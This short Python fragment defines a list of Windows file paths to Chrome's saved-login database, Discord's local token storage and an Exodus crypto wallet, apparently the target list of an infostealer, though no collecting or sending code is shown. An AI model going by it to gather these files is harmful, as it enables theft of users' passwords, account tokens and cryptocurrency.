import os

PLACES = [
    os.path.join(os.getenv("LOCALAPPDATA", ""), "Google", "Chrome", "User Data/Default/Login Data"),
    os.path.join(os.getenv("APPDATA", ""), "discord/Local Storage/leveldb"),
    os.path.join(os.getenv("APPDATA", ""), "Exodus/exodus.wallet"),
]
